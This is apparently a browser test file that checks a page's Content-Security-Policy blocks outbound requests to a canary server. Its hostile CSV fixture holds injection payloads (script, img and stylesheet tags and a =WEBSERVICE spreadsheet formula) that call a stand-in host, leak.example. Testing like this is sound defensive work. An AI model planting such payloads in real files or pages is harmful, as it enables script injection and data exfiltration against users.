// The canary can hear, and the page's policy keeps it from being called.
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";
import { launch, open, part } from "../browser/browser.mjs";
import { startCanary } from "../browser/canary.mjs";
import { at, SEALED_FILE } from "../browser/project.mjs";
import * as person from "../page/person.mjs";
import { ATTEMPTS } from "./attempts.mjs";

/** The one line that makes the page sealed. */
const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/** Orders that would like to be loaded, followed and run. */
const HOSTILE = {
  name: "http:__leak.example_orders.csv",
  mimeType: "text/csv",
  buffer: Buffer.from(
    [
      'customer_id,order_date,amount,"<script src=http://leak.example/header></script>"',
      "<img src=http://leak.example/image>,2024-01-05,120.50,<link rel=stylesheet href=http://leak.example/style>",
      '"=WEBSERVICE(""http://leak.example/formula"")",2024-03-01,15.00,http://leak.example/text',
    ].join("\n"),
  ),
};

describe("a canary that every address leads to", () => {
  /** @type {Awaited<ReturnType<typeof startCanary>>} */
  let canary;
  /** @type {import("playwright-core").Browser} */
  let browser;
  /** @type {string} */
  let folder;
  before(async () => {
    canary = await startCanary();
    browser = await launch(canary.flags);
    folder = await mkdtemp(join(tmpdir(), "clientele-canary-"));
  });
  after(async () => {
    await browser?.close();
    await canary?.close();
    await rm(folder, { recursive: true, force: true });
  });

  /** @param {string} url @param {import("./attempts.mjs").Attempt} attempt */
  async function attemptIn(url, attempt) {
    canary.heard.length = 0;
    const { page, close } = await open(browser, url, canary.context);
    await part(page, "drop").waitFor();
    await page.evaluate(attempt.run, attempt.address).catch(() => {});
    const heard = [...(await canary.listen())];
    await close();
    return heard;
  }

  it("hears nothing from an opened page", async () => {
    const { page, close } = await open(browser, SEALED_FILE, canary.context);
    await part(page, "drop").waitFor();
    assert.deepEqual(await canary.listen(), []);
    await close();
  });

  it("hears nothing while a person goes the whole way", async () => {
    const { page, assertClean, close } = await open(browser, SEALED_FILE, { ...canary.context, acceptDownloads: true });
    canary.heard.length = 0;
    await person.openSample(page);
    await person.openFiles(page, at("tests/fixtures/orders.xlsx"));
    assert.equal((await person.figures(page)).customers, "3");
    await person.openFiles(page, HOSTILE);
    assert.equal((await person.figures(page)).customers, "2");
    await person.go(page, "customers");
    await page.locator("[data-customer]").first().click();
    await part(page, "customer").waitFor();
    await person.lookAt(page, "2024-02-10");
    for (const which of /** @type {const} */ (["csv", "summary", "run"])) await person.save(page, which);
    for (const control of ["language", "theme", "privacy"]) await part(page, control).click();
    await page.keyboard.press("Escape");
    await person.openFiles(page, { ...HOSTILE, buffer: Buffer.alloc(0) });
    assert.equal(await person.errorCode(page), "file_empty");
    assert.deepEqual(await canary.listen(), []);
    assertClean();
    await close();
  });

  for (const attempt of ATTEMPTS) {
    it(`hears ${attempt.name} from a copy without the policy, and nothing from the sealed page`, async () => {
      const sealed = await readFile(fileURLToPath(SEALED_FILE), "utf8");
      assert.match(sealed, POLICY);
      const leaky = join(folder, "leaky.html");
      await writeFile(leaky, sealed.replace(POLICY, ""));
      const heard = await attemptIn(pathToFileURL(leaky).href, attempt);
      assert.ok(heard.length > 0, "The canary must hear what a page without a policy sends.");
      assert.deepEqual(await attemptIn(SEALED_FILE, attempt), [], "The policy must stop it.");
    });
  }
});
